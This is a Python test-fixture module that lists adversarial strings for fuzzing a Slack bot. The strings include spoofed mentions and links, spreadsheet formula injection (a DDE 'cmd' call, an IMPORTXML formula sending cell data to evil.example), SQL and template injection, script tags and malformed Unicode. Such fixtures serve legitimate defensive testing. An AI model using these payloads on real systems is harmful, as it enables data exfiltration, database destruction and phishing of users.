"""Texts that have broken chat bots, or would like to. As Slack delivers them, and as it never would."""

from bot.domain.questions.grammar.verbs import VERBS

MENTIONS = (
    "<!channel>", "<!here>", "<!everyone>", "<!subteam^S012AB3CD|@police>", "<@U0CORA>", "<@U0CORA|cora>",
    "<#C0COORD|coordination>", "@channel", "@here", "@everyone", "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;", "<<!channel>>", "<!channel", "!channel>", "<! channel>", "<\u200b!channel>",
    "＜!channel＞", "<!date^1392734382^{date_long}^https://evil.example|a date>", "<mailto:a@b.example|a>",
    "<tel:+441234567890|ring>",
)  # fmt: skip
LINKS = (
    "<https://evil.example|https://www.gov.uk>", "<https://evil.example>",
    "https://evil.example/?a=1&amp;b=2", "[gov.uk](https://evil.example)", "<javascript:alert(1)|x>",
    "<data:text/html;base64,PGI+|x>", "<https://evil.example|<!channel>>",
    "<https://www.gov.uk@evil.example|gov>", "<|>", "<||>", "<>", "<https://>", "www.evil.example",
    "slack://open", "<https://evil.example|label\nwith a line>",
)  # fmt: skip
FORMULAS = (
    "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("https://evil.example";"x")', "\t=1+1",
    "\r=1+1", "＝1+1", '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
)  # fmt: skip
SQL = (
    "'; DROP TABLE updates; --", '" OR 1=1 --', "%", "_", "\\", "' UNION SELECT text FROM updates --",
    "1); DELETE FROM updates; --", ":text", "%(text)s", "?", "{0}", "{word}", "%s%s%n", "${7*7}", "{{7*7}}",
)  # fmt: skip
FORMATTING = (
    "*bold* _slanted_ ~struck~ `code`", "```\nblock\n```", "> quoted", "• one\n• two",
    ":police_car: :not_an_emoji:", "*", "_", "`", "**", "*_~`", "<b>bold</b>", "<script>alert(1)</script>",
    "&amp;amp;", "&#60;!channel&#62;",
)  # fmt: skip
UNUSUAL = (
    "\x00", "a\x00b", "\x1b[31mred", "\x07", "\u202egnihton", "\u2066a\u2069", "\ufeff", "\u200b\u200b",
    "שלום עולם", "مرحبا", "Z̸͎̈a̷͇͝l̶̰̈́g̵̩̎o̸͔͝" * 40, "e" + "\u0301" * 500, "👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "🏴" * 300, "ﷺ" * 200, "完" * 400, "\ud800", "x\udfff", "\U0010ffff", "\u2028\u2029", "ß" * 100,
    "payload", "the payload=1 of it",
    "İ" * 100, "ǅ", "①⑤", "１５", "１５ kent",
)  # fmt: skip
EMPTY = (
    "", " ", "\n", "\t\t", "   \n  ", "\u00a0", "\u3000", ":", "::", ",", ";", "-", "—", "“”", '"', "''",
    "#", "/",
)  # fmt: skip
LONG = (
    "&amp;" * 3_000, "&" * 3_000, "a" * 40_000, "a " * 20_000, "15 " * 5_000, "kent " * 3_000,
    "&lt;" * 8_000, "<@U0CORA> " * 2_000, "*" * 3_001, "\n" * 9_000, "a" * 3_000, "a" * 3_001, "😀" * 3_000,
    " ".join(str(number) for number in range(1_000)), "9" * 4_000, "é" * 3_000,
)  # fmt: skip
NEARLY = (
    "99999999999999999999", "-1", "0", "15.0", "1e3", "15page", "15 page 0", "15 page 9999", "15 page -1",
    "page 2", "15 page 99999", "stalking-", "-15", "stalking 15 16 stalking", "15kent", "15a",
    "kent 15 surrey", "15 15 15", "stalking-15-16", "15 kent essex surrey", "all", "everything",
    "15 as at 22 Nov 2024", "search words", "export", "/recs 15", "/RECS /recs 15", "recs", "15\n16",
    "15:16", "help — —", "15:: kent", "15 : : :", "kent:", ": kent", "Ken", "Kant",
)  # fmt: skip
RUBBISH = (
    "", " :", "15", " 15:", " 15: ", " 99", " 15 nowhere", " 15 kent surrey", " : text",
    " 15 glouc shire: we met", " 15 kent: <!channel> =1+1", " 15 in progress", " 15 kent blocked:",
    " 15 16 25 kent: *all*", " 15: " + "&amp;" * 2_999, " 15: " + "x" * 3_001, " 15 kent: " + "😀" * 1_400,
    " since yesterday", " before 31 Feb 2025", " 30d", " 99999d", " since 0", " <@U0GUS|gus> kent",
    " <@U0GUS> coordinator", " <@U0GUS> <@U0ED> kent", " <@> kent", " @gus kent", " 27: no",
    " <@U0GUS|gus> kent anyway", " stalking", " wales", " preview", " send", " send now please", " page 3",
    " 15 \x00: \ud800",
)  # fmt: skip

EVERY_VERB = tuple(f"{word}{rest}" for verb in VERBS for word in verb.words[:1] for rest in RUBBISH)
FREE_TEXTS = (*MENTIONS, *LINKS, *FORMULAS, *SQL, *FORMATTING, *UNUSUAL)
NASTY = (*FREE_TEXTS, *EMPTY, *LONG, *NEARLY, *EVERY_VERB)
